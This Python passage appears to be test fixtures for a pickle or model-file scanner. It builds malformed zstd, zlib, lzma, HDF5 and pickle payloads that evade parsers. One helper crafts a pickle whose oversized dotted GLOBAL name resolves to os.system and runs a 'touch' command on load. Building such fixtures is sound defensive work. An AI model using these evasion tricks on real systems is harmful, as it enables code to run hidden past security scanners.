    """A zstd frame behind a skippable frame (zstd readers skip it, pandas' among them)."""
    import zstandard

    return struct.pack("<II", 0x184D2A50, 4) + b"\n" * 4 + zstandard.compress(payload)


def short_frame(payload: bytes, extra: int = 100) -> bytes:
    """A protocol-4 pickle whose FRAME claims ``extra`` bytes more than follow: the pure-Python
    unpickler (joblib's) reads the frame short and runs it."""
    return b"\x80\x04\x95" + struct.pack("<Q", len(payload) + extra) + payload


def long_dotted_global(sentinel: Path) -> bytes:
    """A pickle that is UTF-8 text (its PROTO after SHORT_BINBYTES 0xC2 decodes as one
    character) whose GLOBAL name, ``os`` / ``path.os.path.os...system``, is longer than 64 KiB:
    protocol 4 resolves it to ``os.system``. ``pickle.load`` runs it."""
    name = "path.os." * 8300 + "system"
    return b"C\x01\xc2\x80\x040cos\n" + name.encode() + f"\n(S'touch {sentinel}'\ntR.".encode()


def _cut_short_zlib(body: bytes) -> bytes:
    """A bare zlib stream whose stored block claims more than follows (joblib's zlib reader
    takes the end of the data for the end of the stream)."""
    length = 0xFFFF
    return b"x\x9c\x00" + struct.pack("<HH", length, length ^ 0xFFFF) + body


def _zlib_failing_late(plain: bytes) -> bytes:
    """A bare zlib stream that inflates ``plain``, then fails (a block of type 3) within its
    first 64 KiB of input: a reader fed 8 KiB at a time hands ``plain`` out first."""
    import random
    import zlib

    packer = zlib.compressobj(9)
    deflate = packer.compress(plain) + packer.flush(zlib.Z_SYNC_FLUSH)
    filler = random.Random(7).randbytes(10_000)
    stored = b"\x00" + struct.pack("<HH", len(filler), len(filler) ^ 0xFFFF) + filler
    return deflate + stored + b"\x06"


def _lzma_corrupt_early(payload: bytes) -> bytes:
    """An .lzma stream with a dictionary size liblzma's detection refuses, corrupt within its
    first 4 KiB of input after the payload: a FORMAT_ALONE reader asking for 8 KiB of output
    gets the payload before the error."""
    import lzma
    import random

    raw = bytearray(lzma.compress(payload + b"\n" * 200_000, format=lzma.FORMAT_ALONE))
    raw[1:5] = struct.pack("<I", (1 << 23) + 12345)
    noise = random.Random(11).randbytes(4000)
    for cut in range(len(raw) - 1, 14, -1):
        data = bytes(raw[:cut]) + noise
        try:
            lzma.LZMADecompressor(format=lzma.FORMAT_ALONE).decompress(data[:4096])
            continue
        except lzma.LZMAError:
            pass
        if len(lzma.LZMADecompressor(format=lzma.FORMAT_ALONE).decompress(data, 8192)) == 8192:
            return data
    raise AssertionError("no early corruption point found")  # pragma: no cover


def _lzma_odd_dictionary(payload: bytes) -> bytes:
    """An .lzma stream whose dictionary size is no power of two (liblzma accepts any)."""
    import lzma

    raw = bytearray(lzma.compress(payload, format=lzma.FORMAT_ALONE))
    raw[1:5] = struct.pack("<I", 0x00010100)
    return bytes(raw)


def hdf5_json_stall(depth: int = 900, mib: int = 4) -> bytes:
    """An HDF5 file whose JSON candidates nest deeply around an array that never closes: each
    one used to be decoded again and again, in larger windows (about 2 minutes for 4 MiB)."""
    body = b'{"a":' * depth + b"[" + b"1," * (mib * 1024 * 1024 // 2)
    return HDF5_HEAD + b" " * 8 + body
